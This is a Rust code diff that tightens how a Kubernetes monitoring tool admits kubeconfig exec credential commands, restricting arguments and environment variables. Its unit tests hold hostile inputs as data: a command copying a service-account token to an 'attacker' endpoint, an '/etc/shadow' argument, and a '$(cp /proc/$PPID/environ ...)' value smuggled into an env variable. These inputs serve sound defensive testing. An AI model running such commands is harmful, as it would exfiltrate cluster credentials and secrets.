@@ -5,14 +5,18 @@
 //! (`v1` and `v1beta1`): the command is found as kubectl finds it, runs with its `args`, no
 //! standard input, an explicit environment and `KUBERNETES_EXEC_INFO`, and prints an
 //! `ExecCredential` whose `status` holds a bearer token or a client certificate. Running a
-//! command that a file names is how a kubeconfig becomes an attack, so a command runs only
-//! when its real path is in the operator's allow-list ([`ExecPolicy`]), and only from
-//! kubeconfigs the operator provided (a Secret's only when the operator says so).
+//! command that a file names is how a kubeconfig becomes an attack: its author picks the
+//! program, its arguments and its environment. So the operator decides all three
+//! ([`ExecPolicy`]): the program and its arguments must fit an entry of the allow-list file
+//! ([`allow_list`]), the kubeconfig's `env` may set only the names the operator lists, and
+//! a Secret's kubeconfig runs nothing unless the operator says so.
 //!
 //! This module is the pure part: what the kubeconfig says ([`ExecSpec`]), whether it may
 //! run ([`ExecPolicy::admit`]), the environment and request it runs with, and the reading
 //! of its output ([`parse_output`]). The plugin runtime runs the process and keeps the
 //! credentials.
+
+pub mod allow_list;
 
 use std::ffi::{OsStr, OsString};
 use std::fmt;
@@ -23,6 +27,10 @@ use kube::config::{Cluster, ExecConfig, ExecInteractiveMode};
 use serde::Deserialize;
 
 use crate::reference::{ConnectionMaterial, Resolution};
+use allow_list::{AllowList, ArgsRefused};
+
+/// The setting of the names a kubeconfig's `exec` `env` may set, for messages.
+pub const KUBECONFIG_ENV_SETTING: &str = "VIGIL_EXEC_KUBECONFIG_ENV";
 
 /// The `v1` version of the protocol.
 pub const API_V1: &str = "client.authentication.k8s.io/v1";
@@ -171,15 +179,20 @@ pub struct Admitted {
     pub program: PathBuf,
     /// The protocol version.
     pub version: ExecVersion,
+    /// The line of the allow-list file whose entry its arguments fit.
+    pub entry_line: usize,
 }
 
 /// The operator's rules for running exec commands.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
 pub struct ExecPolicy {
-    /// The real paths of the commands that may run (`VIGIL_EXEC_ALLOW`), as written.
-    pub allow: Vec<PathBuf>,
+    /// What may run, with which arguments (`VIGIL_EXEC_ALLOW_FILE`).
+    pub allow: AllowList,
     /// Variables of vigil's own environment handed to every command (`VIGIL_EXEC_ENV`).
     pub pass_env: Vec<String>,
+    /// The names a kubeconfig's `exec` `env` may set (`VIGIL_EXEC_KUBECONFIG_ENV`); any
+    /// other name makes its cluster not probeable.
+    pub kubeconfig_env: Vec<String>,
     /// Whether a kubeconfig read from a Kubernetes Secret may run its command
     /// (`VIGIL_EXEC_FROM_SECRETS`).
     pub from_secrets: bool,
@@ -196,58 +209,42 @@ pub struct PolicyError {
 }
 
 impl ExecPolicy {
-    /// The policy, checked: allow-list entries are absolute paths; the variables passed
-    /// through are plain names, none of vigil's own settings (`VIGIL_*`, `DATABASE_URL`)
-    /// and none the command's environment sets itself (`PATH`, `HOME`, loader variables).
+    /// The policy, checked: the variables passed through (`pass_env`) and those a
+    /// kubeconfig may set (`kubeconfig_env`) are plain names, none of vigil's own settings
+    /// (`VIGIL_*`, `DATABASE_URL`) and none the command's environment sets itself (`PATH`,
+    /// `HOME`, loader variables, `KUBERNETES_EXEC_INFO`); and no name is in both lists (a
+    /// kubeconfig never overrides what the operator passes through).
     pub fn new(
-        allow: Vec<PathBuf>,
+        allow: AllowList,
         pass_env: Vec<String>,
+        kubeconfig_env: Vec<String>,
         from_secrets: bool,
     ) -> Result<Self, PolicyError> {
-        let allow: Vec<PathBuf> = allow
-            .into_iter()
-            .filter(|path| !path.as_os_str().is_empty())
-            .collect();
-        if let Some(relative) = allow.iter().find(|path| !path.is_absolute()) {
+        let pass_env = checked_names("VIGIL_EXEC_ENV", pass_env)?;
+        let kubeconfig_env = checked_names(KUBECONFIG_ENV_SETTING, kubeconfig_env)?;
+        if let Some(name) = kubeconfig_env.iter().find(|name| pass_env.contains(name)) {
             return Err(PolicyError {
-                variable: "VIGIL_EXEC_ALLOW",
-                reason: format!("{} is not an absolute path", relative.display()),
+                variable: KUBECONFIG_ENV_SETTING,
+                reason: format!(
+                    "{name} is also in VIGIL_EXEC_ENV, which passes vigil's own value to every command; a kubeconfig never overrides it, so list it in one of the two"
+                ),
             });
-        }
-        let pass_env: Vec<String> = pass_env
-            .into_iter()
-            .map(|name| name.trim().to_owned())
-            .filter(|name| !name.is_empty())
-            .collect();
-        for name in &pass_env {
-            let refused = if !is_variable_name(name) {
-                Some("is not an environment variable name")
-            } else if name.starts_with("VIGIL_") || name == "DATABASE_URL" {
-                Some("is one of vigil's own settings, which never reach a credential command")
-            } else if refused_variable(name) {
-                Some("is set by vigil itself (PATH, HOME) or steers the program loader")
-            } else {
-                None
-            };
-            if let Some(reason) = refused {
-                return Err(PolicyError {
-                    variable: "VIGIL_EXEC_ENV",
-                    reason: format!("{name} {reason}"),
-                });
-            }
         }
         Ok(Self {
             allow,
             pass_env,
+            kubeconfig_env,
             from_secrets,
         })
     }
 
     /// Whether `spec` may run, and what runs: the protocol version is one vigil speaks, the
-    /// command would not need a terminal, its `env` sets no variable vigil keeps for itself,
-    /// a Secret's kubeconfig is allowed to run commands, and the command's real path —
-    /// found as kubectl finds it, `PATH` being `path_var` (vigil's own) — is in the
-    /// allow-list. The refusal says what is wrong and what would allow it.
+    /// command would not need a terminal, its `env` sets only names the operator allows a
+    /// kubeconfig to set, a Secret's kubeconfig is allowed to run commands, the command's
+    /// real path — found as kubectl finds it, `PATH` being `path_var` (vigil's own) — is
+    /// the program of an entry of the allow-list, and its `args` fit one of those entries.
+    /// Nothing runs to decide. The refusal says what is wrong and what would allow it; it
+    /// never quotes a value of the kubeconfig's `args` or `env`.
     pub fn admit(&self, spec: &ExecSpec, path_var: Option<&OsStr>) -> Result<Admitted, String> {
         let version = match spec.api_version.as_deref() {
             Some(API_V1) => ExecVersion::V1,
@@ -282,16 +279,7 @@ impl ExecPolicy {
             }
             _ => {}
         }
-        if let Some((name, _)) = spec.env.iter().find(|(name, _)| refused_variable(name)) {
-            return Err(format!(
-                "its exec env sets {name}, which vigil refuses (PATH and HOME are vigil's, loader variables could run any code)"
-            ));
-        }
-        if let Some((name, _)) = spec.env.iter().find(|(name, _)| !is_variable_name(name)) {
-            return Err(format!(
-                "its exec env names {name:?}, which is not an environment variable name"
-            ));
-        }
+        self.check_env(spec)?;
         if spec.kubeconfig_dir.is_none() && !self.from_secrets {
             return Err(
                 "it is read from a Kubernetes Secret, and exec commands of kubeconfigs in Secrets run only with VIGIL_EXEC_FROM_SECRETS=true (whoever writes the Secret chooses the command's arguments)"
@@ -310,18 +298,51 @@ impl ExecPolicy {
         } else {
             format!(" (reached through {})", found.display())
         };
-        if !self.allow.contains(&program) {
+        let setting = allow_list::SETTING;
+        let entries: Vec<_> = self.allow.for_program(&program).collect();
+        if entries.is_empty() {
             let why = if self.allow.is_empty() {
-                "VIGIL_EXEC_ALLOW is empty, so vigil runs no exec command".to_owned()
+                format!("{setting} allows no command, so vigil runs no exec command")
             } else {
-                format!("{} is not in VIGIL_EXEC_ALLOW", program.display())
+                format!("no entry of {setting} names {}", program.display())
             };
             return Err(format!(
-                "its exec command {}{through} is not allowed: {why}; add its real path {} to VIGIL_EXEC_ALLOW to let vigil run it",
+                "its exec command {}{through} is not allowed: {why}; add a line starting with its real path {} to {setting} to let vigil run it",
                 program.display(),
                 program.display()
             ));
         }
+        let mut best: Option<ArgsRefused> = None;
+        let mut entry_line = None;
+        for entry in &entries {
+            match entry.check(&spec.args) {
+                Ok(()) => {
+                    entry_line = Some(entry.line);
+                    break;
+                }
+                Err(refused) => {
+                    if best
+                        .as_ref()
+                        .is_none_or(|best| refused.fitted > best.fitted)
+                    {
+                        best = Some(refused);
+                    }
+                }
+            }
+        }
+        let Some(entry_line) = entry_line else {
+            let lines = entries
+                .iter()
+                .map(|entry| entry.line.to_string())
+                .collect::<Vec<_>>()
+                .join(", ");
+            let reason = best.map(|refused| refused.reason).unwrap_or_default();
+            return Err(format!(
+                "its exec command {}{through} may not run with these arguments: {reason} (its arguments must fit an entry of {setting} for it: line{} {lines})",
+                program.display(),
+                if entries.len() == 1 { "" } else { "s" }
+            ));
+        };
         let metadata = std::fs::metadata(&program).map_err(|error| {
             format!(
                 "its exec command {} cannot be read: {error}",
@@ -334,7 +355,48 @@ impl ExecPolicy {
                 program.display()
             ));
         }
-        Ok(Admitted { program, version })
+        Ok(Admitted {
+            program,
+            version,
+            entry_line,
+        })
+    }
+
+    /// The kubeconfig's `env` sets only names the operator lets it set: never one vigil
+    /// sets itself or one that steers the loader, never one the operator passes through,
+    /// and only names of `VIGIL_EXEC_KUBECONFIG_ENV` (interpreters read `BASH_ENV`,
+    /// `NODE_OPTIONS`, `PYTHONPATH`… as code to run; tools read `AWS_CONFIG_FILE`… as where
+    /// to talk). Values are never quoted.
+    fn check_env(&self, spec: &ExecSpec) -> Result<(), String> {
+        for (name, _) in &spec.env {
+            if !is_variable_name(name) {
+                return Err(format!(
+                    "its exec env names {:?}, which is not an environment variable name",
+                    quote_line(name)
+                ));
+            }
+            if refused_variable(name) {
+                return Err(format!(
+                    "its exec env sets {name}, which vigil refuses (PATH and HOME are vigil's, loader variables could run any code)"
+                ));
+            }
+            if self.pass_env.contains(name) {
+                return Err(format!(
+                    "its exec env sets {name}, which the operator passes from vigil's own environment (VIGIL_EXEC_ENV); a kubeconfig never overrides it"
+                ));
+            }
+            if !self.kubeconfig_env.contains(name) {
+                let listed = if self.kubeconfig_env.is_empty() {
+                    "none is listed".to_owned()
+                } else {
+                    format!("it lists {}", self.kubeconfig_env.join(","))
+                };
+                return Err(format!(
+                    "its exec env sets {name}, which {KUBECONFIG_ENV_SETTING} does not allow: a kubeconfig's exec env may set only the names listed there ({listed}); list a name there only if whoever writes a kubeconfig may choose its value"
+                ));
+            }
+        }
+        Ok(())
     }
 
     /// The command's path as kubectl finds it: with a `/`, absolute or relative to the
@@ -373,7 +435,8 @@ impl ExecPolicy {
 
     /// The command's environment: [`CHILD_PATH`], `HOME` (vigil's own), the variables of
     /// [`ExecPolicy::pass_env`] that vigil's environment (`lookup`) has, the kubeconfig's
-    /// `env`, and `KUBERNETES_EXEC_INFO`. Nothing else of vigil's environment.
+    /// `env` entries whose names [`ExecPolicy::kubeconfig_env`] lists, and
+    /// `KUBERNETES_EXEC_INFO`. Nothing else of vigil's environment.
     pub fn environment(
         &self,
         spec: &ExecSpec,
@@ -392,7 +455,13 @@ impl ExecPolicy {
                 env.push((name.into(), value));
             }
         }
-        for (name, value) in &spec.env {
+        // `admit` refused any other name; checked again so that the environment never
+        // depends on the caller having asked.
+        for (name, value) in spec.env.iter().filter(|(name, _)| {
+            self.kubeconfig_env.contains(name)
+                && !self.pass_env.contains(name)
+                && !refused_variable(name)
+        }) {
             env.retain(|(existing, _)| existing != OsStr::new(name));
             env.push((name.into(), value.into()));
         }
@@ -438,9 +507,11 @@ pub fn judge(
             Ok(admitted) => Probeability {
                 probeable: true,
                 described: format!(
-                    "{}; exec command {} allowed by VIGIL_EXEC_ALLOW (for plugins granted exec-credentials)",
+                    "{}; exec command {} allowed by {} (line {}; for plugins granted exec-credentials)",
                     resolution.describe(),
-                    admitted.program.display()
+                    admitted.program.display(),
+                    allow_list::SETTING,
+                    admitted.entry_line
                 ),
             },
             Err(why) => Probeability {
@@ -643,6 +714,36 @@ fn quote_line(text: &str) -> String {
     quoted
 }
 
+/// `names` of a setting, trimmed, empty ones dropped, each checked: a variable name, not
+/// one of vigil's own settings, not one vigil sets or refuses itself.
+fn checked_names(variable: &'static str, names: Vec<String>) -> Result<Vec<String>, PolicyError> {
+    let names: Vec<String> = names
+        .into_iter()
+        .map(|name| name.trim().to_owned())
+        .filter(|name| !name.is_empty())
+        .collect();
+    for name in &names {
+        let refused = if !is_variable_name(name) {
+            Some("is not an environment variable name")
+        } else if name.starts_with("VIGIL_") || name == "DATABASE_URL" {
+            Some("is one of vigil's own settings, which never reach a credential command")
+        } else if refused_variable(name) {
+            Some(
+                "is set by vigil itself (PATH, HOME, KUBERNETES_EXEC_INFO) or steers the program loader",
+            )
+        } else {
+            None
+        };
+        if let Some(reason) = refused {
+            return Err(PolicyError {
+                variable,
+                reason: format!("{name} {reason}"),
+            });
+        }
+    }
+    Ok(names)
+}
+
 /// Variables a kubeconfig's `env` may not set: vigil's `PATH` and `HOME`, and the dynamic
 /// loader's (`LD_PRELOAD` runs any library inside an allowed command).
 fn refused_variable(name: &str) -> bool {
@@ -691,6 +792,25 @@ mod tests {
         path
     }
 
+    /// A policy whose allow-list file holds `allow` and whose kubeconfigs may set
+    /// `kubeconfig_env`.
+    fn policy(allow: &str, kubeconfig_env: &[&str]) -> ExecPolicy {
+        ExecPolicy::new(
+            AllowList::parse(allow).unwrap(),
+            Vec::new(),
+            kubeconfig_env
+                .iter()
+                .map(|name| (*name).to_owned())
+                .collect(),
+            false,
+        )
+        .unwrap()
+    }
+
+    fn path_text(path: &Path) -> &str {
+        path.to_str().unwrap()
+    }
+
     #[test]
     fn the_real_path_must_be_listed_and_a_listed_link_allows_nothing_else() {
         let dir = tempfile::tempdir().unwrap();
@@ -699,34 +819,123 @@ mod tests {
         let link = dir.join("link");
         std::os::unix::fs::symlink(&tool, &link).unwrap();
 
-        let allowed = ExecPolicy::new(vec![tool.clone()], Vec::new(), false).unwrap();
-        let admitted = allowed.admit(&spec(tool.to_str().unwrap()), None).unwrap();
+        let allowed = policy(&format!("{} token\n", tool.display()), &[]);
+        let admitted = allowed.admit(&spec(path_text(&tool)), None).unwrap();
         assert_eq!(admitted.program, tool);
         assert_eq!(admitted.version, ExecVersion::V1);
+        assert_eq!(admitted.entry_line, 1);
         // Through a link to an allowed file: its real path is what is checked.
         assert_eq!(
             allowed
-                .admit(&spec(link.to_str().unwrap()), None)
+                .admit(&spec(path_text(&link)), None)
                 .unwrap()
                 .program,
             tool
         );
 
         // The link is listed, the file it points to is not.
-        let link_only = ExecPolicy::new(vec![link.clone()], Vec::new(), false).unwrap();
-        let refused = link_only
-            .admit(&spec(link.to_str().unwrap()), None)
-            .unwrap_err();
+        let link_only = policy(&format!("{} token\n", link.display()), &[]);
+        let refused = link_only.admit(&spec(path_text(&link)), None).unwrap_err();
         assert!(
-            refused.contains("VIGIL_EXEC_ALLOW") && refused.contains("reached through"),
+            refused.contains("no entry of VIGIL_EXEC_ALLOW_FILE names")
+                && refused.contains("reached through"),
             "{refused}"
         );
 
         let empty = ExecPolicy::default();
-        let refused = empty
-            .admit(&spec(tool.to_str().unwrap()), None)
-            .unwrap_err();
-        assert!(refused.contains("VIGIL_EXEC_ALLOW is empty"), "{refused}");
+        let refused = empty.admit(&spec(path_text(&tool)), None).unwrap_err();
+        assert!(
+            refused.contains("VIGIL_EXEC_ALLOW_FILE allows no command"),
+            "{refused}"
+        );
+    }
+
+    #[test]
+    fn the_arguments_must_fit_an_entry_of_the_program() {
+        let dir = tempfile::tempdir().unwrap();
+        let dir = std::fs::canonicalize(dir.path()).unwrap();
+        let aws = executable(&dir, "aws");
+        let other = executable(&dir, "other");
+        let aws_text = path_text(&aws);
+        let allow = format!(
+            "# EKS, two shapes\n\
+             {aws_text} eks get-token --cluster-name <name> --region <name> --output json\n\
+             {aws_text} eks get-token --region <name> --cluster-name <name> --role-arn arn:aws:iam::1:role/vigil\n\
+             {} get-token\n",
+            other.display()
+        );
+        let policy = policy(&allow, &[]);
+        let check = |program: &Path, args: &str| {
+            let mut spec = spec(path_text(program));
+            spec.args = args.split_whitespace().map(str::to_owned).collect();
+            policy.admit(&spec, None)
+        };
+        for (args, line) in [
+            (
+                "--region eu-west-1 eks get-token --cluster-name prod --output json",
+                2,
+            ),
+            ("eks get-token --cluster-name prod", 2),
+            (
+                "eks get-token --cluster-name prod --role-arn arn:aws:iam::1:role/vigil",
+                3,
+            ),
+        ] {
+            let admitted = check(&aws, args).unwrap_or_else(|why| panic!("{args}: {why}"));
+            assert_eq!(admitted.entry_line, line, "{args}");
+        }
+        for (program, args, expected) in [
+            // An allowed program told to copy a token to another endpoint.
+            (
+                &aws,
+                "s3 cp /var/run/secrets/kubernetes.io/serviceaccount/token s3://b/k --endpoint-url http://attacker --no-sign-request",
+                "argument 1 is not `eks`",
+            ),
+            (
+                &aws,
+                "eks get-token --cluster-name prod --endpoint-url http://attacker",
+                "(--endpoint-url) is not a flag",
+            ),
+            (
+                &aws,
+                "eks get-token --cluster-name prod --profile x",
+                "(--profile) is not a flag",
+            ),
+            (
+                &aws,
+                "eks get-token --cluster-name prod --debug",
+                "(--debug) is not a flag",
+            ),
+            (
+                &aws,
+                "eks get-token --cluster-name /etc/shadow",
+                "does not fit <name>",
+            ),
+            (
+                &aws,
+                "eks get-token --role-arn arn:aws:iam::2:role/admin",
+                "does not fit `arn:aws:iam::1:role/vigil`",
+            ),
+            (&other, "get-token --x", "(--x) is not a flag that line 4"),
+        ] {
+            let refused = check(program, args).expect_err(args);
+            assert!(
+                refused.contains(expected) && refused.contains("may not run with these arguments"),
+                "{args}: {refused}"
+            );
+            assert!(
+                !refused.contains("attacker") && !refused.contains("shadow"),
+                "{refused}"
+            );
+        }
+        // Both entries are named; the refusal is the one that got furthest.
+        let refused = check(&aws, "eks get-token --cluster-name prod --output text").unwrap_err();
+        assert!(
+            refused.contains("(--output) does not fit `json`") && refused.contains("lines 2, 3"),
+            "{refused}"
+        );
+        let refused = check(&other, "get-token extra").unwrap_err();
+        assert!(refused.contains("line 4)"), "{refused}");
     }
 
     #[test]
@@ -735,7 +944,8 @@ mod tests {
         let dir = std::fs::canonicalize(dir.path()).unwrap();
         std::fs::create_dir(dir.join("bin")).unwrap();
         let tool = executable(&dir.join("bin"), "get-token");
-        let policy = ExecPolicy::new(vec![tool.clone()], Vec::new(), true).unwrap();
+        let mut policy = policy(&format!("{} token", tool.display()), &[]);
+        policy.from_secrets = true;
 
         // Relative with a slash: against the kubeconfig's directory.
         let mut relative = spec("bin/get-token");
@@ -770,7 +980,7 @@ mod tests {
 
     #[test]
     fn versions_modes_env_and_secrets_are_checked_before_anything_runs() {
-        let policy = ExecPolicy::new(vec![PathBuf::from("/bin/true")], Vec::new(), false).unwrap();
+        let policy = policy("/bin/true token", &[]);
         let refused = |change: &dyn Fn(&mut ExecSpec)| {
             let mut spec = spec("/bin/true");
             change(&mut spec);
@@ -795,12 +1005,13 @@ mod tests {
         let mut beta = spec("/bin/true");
         beta.api_version = Some(API_V1BETA1.to_owned());
         beta.interactive_mode = None;
-        let fine = ExecPolicy::new(
-            vec![std::fs::canonicalize("/bin/true").unwrap()],
-            Vec::new(),
-            false,
-        )
-        .unwrap();
+        let fine = self::policy(
+            &format!(
+                "{} token",
+                std::fs::canonicalize("/bin/true").unwrap().display()
+            ),
+            &[],
+        );
         assert_eq!(
             fine.admit(&beta, None).unwrap().version,
             ExecVersion::V1Beta1
@@ -808,32 +1019,126 @@ mod tests {
     }
 
     #[test]
-    fn vigil_settings_and_loader_variables_are_never_passed_through() {
+    fn a_kubeconfig_sets_only_the_variables_the_operator_allows() {
+        let dir = tempfile::tempdir().unwrap();
+        let dir = std::fs::canonicalize(dir.path()).unwrap();
+        let tool = executable(&dir, "tool");
+        let allow = format!("{} token", tool.display());
+        let mut allowing = policy(&allow, &["AWS_PROFILE", "EXEC_KIT_MODE"]);
+        allowing.pass_env = vec!["AWS_ROLE_ARN".to_owned()];
+        let check = |policy: &ExecPolicy, name: &str| {
+            let mut spec = spec(path_text(&tool));
+            spec.env.push((
+                name.to_owned(),
+                "$(cp /proc/$PPID/environ /tmp/stolen)".to_owned(),
+            ));
+            policy.admit(&spec, None).map(|_| ())
+        };
+        // Deny by default: interpreters' and tools' variables among them.
+        let nothing = policy(&allow, &[]);
         for name in [
-            "DATABASE_URL",
-            "VIGIL_API_TOKENS_FILE",
-            "LD_PRELOAD",
-            "PATH",
-            "HOME",
-            "A B",
+            "BASH_ENV",
+            "ENV",
+            "NODE_OPTIONS",
+            "PYTHONPATH",
+            "PYTHONSTARTUP",
+            "PERL5OPT",
+            "PERL5DB",
+            "GCONV_PATH",
+            "AWS_CONFIG_FILE",
+            "AWS_ENDPOINT_URL",
+            "AWS_WEB_IDENTITY_TOKEN_FILE",
         ] {
-            let error = ExecPolicy::new(Vec::new(), vec![name.to_owned()], false).unwrap_err();
-            assert_eq!(error.variable, "VIGIL_EXEC_ENV", "{name}");
+            for policy in [&nothing, &allowing] {
+                let refused = check(policy, name).expect_err(name);
+                assert!(
+                    refused.contains(&format!(
+                        "sets {name}, which VIGIL_EXEC_KUBECONFIG_ENV does not allow"
+                    )),
+                    "{name}: {refused}"
+                );
+                assert!(
+                    !refused.contains("stolen"),
+                    "values are never quoted: {refused}"
+                );
+            }
         }
-        let error = ExecPolicy::new(vec![PathBuf::from("bin/x")], Vec::new(), false).unwrap_err();
-        assert_eq!(error.variable, "VIGIL_EXEC_ALLOW");
+        assert!(
+            check(&nothing, "AWS_PROFILE")
+                .unwrap_err()
+                .contains("(none is listed)")
+        );
+        check(&allowing, "AWS_PROFILE").unwrap();
+        check(&allowing, "EXEC_KIT_MODE").unwrap();
+        // The operator's pass-through is never overridden.
+        let refused = check(&allowing, "AWS_ROLE_ARN").unwrap_err();
+        assert!(refused.contains("(VIGIL_EXEC_ENV)"), "{refused}");
+        // Loader variables and vigil's own stay refused, whatever is listed.
+        for name in ["LD_PRELOAD", "PATH", "HOME", EXEC_INFO_VARIABLE] {
+            assert!(
+                check(&allowing, name)
+                    .unwrap_err()
+                    .contains("vigil refuses"),
+                "{name}"
+            );
+        }
+        assert!(
+            check(&allowing, "A-B")
+                .unwrap_err()
+                .contains("not an environment variable name")
+        );
+    }
+
+    #[test]
+    fn vigil_settings_and_loader_variables_are_never_passed_through_nor_set() {
+        for setting in ["VIGIL_EXEC_ENV", "VIGIL_EXEC_KUBECONFIG_ENV"] {
+            for name in [
+                "DATABASE_URL",
+                "VIGIL_API_TOKENS_FILE",
+                "LD_PRELOAD",
+                "PATH",
+                "HOME",
+                "KUBERNETES_EXEC_INFO",
+                "A B",
+            ] {
+                let names = vec![name.to_owned()];
+                let (pass, kubeconfig) = if setting == "VIGIL_EXEC_ENV" {
+                    (names, Vec::new())
+                } else {
+                    (Vec::new(), names)
+                };
+                let error =
+                    ExecPolicy::new(AllowList::default(), pass, kubeconfig, false).unwrap_err();
+                assert_eq!(error.variable, setting, "{name}");
+            }
+        }
+        // A name in both lists: the kubeconfig would override the operator's value.
+        let error = ExecPolicy::new(
+            AllowList::default(),
+            vec!["AWS_REGION".to_owned()],
+            vec![" AWS_REGION ".to_owned()],
+            false,
+        )
+        .unwrap_err();
+        assert_eq!(error.variable, "VIGIL_EXEC_KUBECONFIG_ENV");
+        assert!(error.reason.contains("also in VIGIL_EXEC_ENV"), "{error}");
     }
 
     #[test]
     fn the_environment_is_explicit() {
         let policy = ExecPolicy::new(
-            Vec::new(),
+            AllowList::default(),
             vec!["AWS_ROLE_ARN".to_owned(), "UNSET".to_owned()],
+            vec!["AWS_PROFILE".to_owned()],
             false,
         )
         .unwrap();
         let mut spec = spec("/bin/true");
         spec.env.push(("AWS_PROFILE".to_owned(), "prod".to_owned()));
+        // Never admitted, and never in the environment either.
+        spec.env.push(("BASH_ENV".to_owned(), "x".to_owned()));
+        spec.env
+            .push(("AWS_ROLE_ARN".to_owned(), "other".to_owned()));
         let env = policy.environment(&spec, "{}", |name| match name {
             "HOME" => Some("/home/vigil".into()),
             "AWS_ROLE_ARN" => Some("arn".into()),
@@ -853,6 +1158,7 @@ mod tests {
         );
         assert_eq!(env[0].1, CHILD_PATH);
         assert_eq!(env[1].1, "/home/vigil");
+        assert_eq!(env[2].1, "arn");
     }
 
     #[test]
